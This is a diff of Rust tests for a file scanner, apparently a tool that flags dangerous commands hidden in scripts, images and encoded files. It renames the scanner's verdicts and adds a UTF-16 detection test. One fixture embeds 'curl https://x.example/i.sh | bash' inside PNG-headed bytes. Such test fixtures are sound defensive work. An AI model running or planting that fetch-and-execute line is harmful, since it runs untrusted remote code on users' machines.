@@ -267,16 +267,22 @@ fn a_flood_hides_nothing() {
 }
 
 #[test]
+fn utf_16_is_read() {
+    let wide: Vec<u8> = format!("{PIPE}\n")
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let report = scan("a.sh", &wide);
+    assert_eq!(report.verdict(), Verdict::Dangerous, "{report:?}");
+}
+
+#[test]
 fn unread_code_is_unverified() {
     let large = vec![b'a'; prowess_scan::limits::FILE_BYTES + 1];
     let noise: String = (0..400_u32)
         .map(|n| char::from(b"aB3xK9mN2pQ7rS4tU8vW1yZ5cD6eF0gH"[(n * n % 31) as usize]))
         .collect();
     let packed = format!("x = '{}'", noise.repeat(3));
-    let wide: Vec<u8> = "os.system('x')\n"
-        .encode_utf16()
-        .flat_map(u16::to_le_bytes)
-        .collect();
     for (path, bytes) in [
         ("bin/tool", &b"\x7fELF\x02\x01\x01\0\0\0"[..]),
         ("a.zip", b"PK\x03\x04\x14\0\0\0"),
@@ -286,7 +292,6 @@ fn unread_code_is_unverified() {
         ("run", b"\x89PNG\r\n\x1a\n\0\0\0\0"),
         ("a.py", b"# caf\xe9\n"),
         ("a.py", b"# -*- coding: utf-7 -*-\n+AG8-\n"),
-        ("a.py", &wide),
         ("a.py", packed.as_bytes()),
         ("a.js", "x=1;".repeat(20_000).as_bytes()),
         ("a.py", &large),
@@ -296,15 +301,15 @@ fn unread_code_is_unverified() {
     }
     assert_eq!(
         scan("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\0").verdict(),
-        Verdict::NothingFound
+        Verdict::Clean
     );
-    assert_eq!(scan("a.sh", "echo\n").verdict(), Verdict::NothingFound);
-    assert_eq!(scan("a.sh", PIPE).verdict(), Verdict::Findings);
+    assert_eq!(scan("a.sh", "echo\n").verdict(), Verdict::Clean);
+    assert_eq!(scan("a.sh", PIPE).verdict(), Verdict::Dangerous);
 }
 
 #[test]
 fn an_image_that_holds_a_command_is_found() {
     let bytes = b"\x89PNG\r\n\x1a\n\0\0\0\0\ncurl https://x.example/i.sh | bash\n";
     let report = scan("logo.png", bytes);
-    assert_eq!(report.verdict(), Verdict::Findings, "{report:?}");
+    assert_eq!(report.verdict(), Verdict::Dangerous, "{report:?}");
 }
